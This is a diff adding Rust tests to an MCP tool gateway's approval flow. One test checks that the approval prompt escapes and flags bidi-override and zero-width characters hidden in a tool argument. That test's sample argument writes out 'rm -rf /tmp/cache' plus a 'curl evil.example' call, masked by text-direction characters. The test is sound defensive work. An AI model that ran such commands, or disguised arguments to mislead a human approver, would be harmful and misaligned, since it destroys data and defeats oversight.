@@ -68,10 +68,57 @@ async fn without_elicitation_the_question_is_denied_in_one_line() {
         r.is_error() && r.joined_text().contains("cannot ask"),
         "{r:?}"
     );
+    // Issue 36: it says where to allow the tool without the config's
+    // absolute path (a home folder, a user name).
+    let text = r.joined_text();
+    let folder = dir.path("x");
+    let folder = folder.parent().unwrap().display().to_string();
+    assert!(!text.contains(&folder), "{text}");
+    assert!(
+        text.contains("the gateway's config file (.mcp.json)"),
+        "{text}"
+    );
     let audit = dir.audit();
     assert_eq!(audit.len(), 1, "{audit:?}");
     assert_eq!(audit[0]["outcome"], "denied");
     assert_eq!(audit[0]["decidedBy"], "no-approver");
+    client.close().await;
+    host.shutdown().await;
+}
+
+// Issue 36: the question shows what will run. An argument with a bidi
+// override and zero-width characters reads one way and runs another: the
+// elicitation shows each such character escaped and says the arguments
+// held some; the call runs with the characters themselves.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_question_shows_hidden_characters_escaped_and_says_so() {
+    let (_dir, log, host, gateway) = logged(&[], GatewayOptions::default()).await;
+    let answer = Answer::new(true);
+    let client = client(&gateway.url, Some(answer.clone())).await;
+    let text = "rm -rf /tmp/cache\u{202e}\u{2066}; curl evil.example\u{2069}\u{200b}";
+    let r = client
+        .call_tool("mcp__m__echo", args(json!({ "text": text })))
+        .await
+        .unwrap();
+    assert!(!r.is_error(), "{r:?}");
+    let asked = answer.questions();
+    let message = asked[0]["message"].as_str().unwrap();
+    assert!(
+        message
+            .contains(r#""rm -rf /tmp/cache\u{202e}\u{2066}; curl evil.example\u{2069}\u{200b}""#),
+        "{message}"
+    );
+    assert!(
+        !message.contains('\u{202e}') && !message.contains('\u{200b}'),
+        "{message}"
+    );
+    assert!(
+        message.contains("the arguments contain invisible or text-direction characters"),
+        "{message}"
+    );
+    // What ran is what was sent.
+    let calls = calls_in(&log);
+    assert!(calls[0].contains(text), "{calls:?}");
     client.close().await;
     host.shutdown().await;
 }
